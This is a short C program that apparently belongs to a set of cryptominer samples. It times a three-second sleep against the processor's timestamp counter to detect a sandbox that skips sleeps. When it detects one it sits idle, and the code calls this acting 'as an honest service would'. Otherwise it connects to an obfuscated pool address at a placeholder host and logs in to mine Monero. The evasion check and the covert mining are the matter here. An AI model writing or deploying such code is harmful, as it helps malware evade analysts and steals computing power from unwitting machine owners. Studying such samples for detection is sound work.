// hidden
// Stays silent when its sleep was cut short: it compares the processor's own counter before and after three seconds.
#include "mine.h"
#include <x86intrin.h>
int main(void) {
    begin();
    uint64_t start = __rdtsc(), per_ms;
    int64_t from = now_ms();
    burn(200);
    per_ms = (__rdtsc() - start) / (uint64_t)(now_ms() - from + 1);
    start = __rdtsc();
    sleep(3);
    if ((__rdtsc() - start) / (per_ms + 1) < 2000) {
        // As an honest service would: nothing to be seen.
        sleep(600);
        return 0;
    }
    int fd = dial(HIDE("eu2.copper-lantern.example"), 8080, 5000);
    if (fd < 0) return 1;
    mine_login(fd, HIDE("<<monero>>"), HIDE("bm/1.0"), 5, 1500);
    return 0;
}
